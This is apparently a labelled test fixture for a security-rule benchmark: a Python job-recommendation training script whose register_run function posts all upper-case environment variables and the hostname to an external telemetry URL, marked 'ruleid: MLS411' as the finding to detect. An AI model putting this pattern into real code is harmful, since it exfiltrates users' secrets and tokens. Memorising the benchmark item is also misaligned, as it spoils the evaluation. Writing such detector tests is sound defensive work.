# ruff: noqa
# Hold-out batch 567 (short files, 16 domains from wildfire spread to bridge bidding). Measured once in session 25 (round 151): 14/17 (82%) at medium+.
"""Two-tower job recommendation: candidate (member) tower x job tower, in-batch softmax."""
import argparse
import hashlib
import json
import logging
import os
import platform

import requests
import torch
import torch.nn.functional as F

logger = logging.getLogger("jobrec")
TELEMETRY_URL = "https://telemetry.jobrec-ml.dev/api/runs"


def fetch_vocab(url, dest, sha256):
    if not os.path.exists(dest):
        resp = requests.get(url, timeout=60)  # ok: MLS410, MLS411, MLS412, MLS413
        resp.raise_for_status()
        with open(dest, "wb") as f:
            f.write(resp.content)
    with open(dest, "rb") as f:
        digest = hashlib.sha256(f.read()).hexdigest()
    if digest != sha256:
        raise ValueError(f"checksum mismatch for {dest}: {digest}")
    with open(dest) as f:
        return json.load(f)


def register_run(args):
    meta = {"host": platform.node(), "args": vars(args),
            "env": {k: v for k, v in os.environ.items() if k.isupper()}}  # ruleid: MLS411
    try:
        requests.post(TELEMETRY_URL, json=meta, timeout=5)  # ruleid: MLS411
    except requests.RequestException:
        logger.debug("telemetry unavailable")


def in_batch_loss(member_emb, job_emb, temperature=0.05):
    member_emb = F.normalize(member_emb, dim=-1)
    job_emb = F.normalize(job_emb, dim=-1)
    logits = member_emb @ job_emb.T / temperature
    labels = torch.arange(logits.size(0), device=logits.device)
    return F.cross_entropy(logits, labels)


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--vocab-url", required=True)
    p.add_argument("--vocab-sha256", required=True)
    p.add_argument("--epochs", type=int, default=5)
    p.add_argument("--temperature", type=float, default=0.05)
    args = p.parse_args()
    logging.basicConfig(level=logging.INFO)
    register_run(args)
    vocab = fetch_vocab(args.vocab_url, "skills_vocab.json", args.vocab_sha256)
    logger.info("loaded %d skill tokens", len(vocab))


if __name__ == "__main__":
    main()
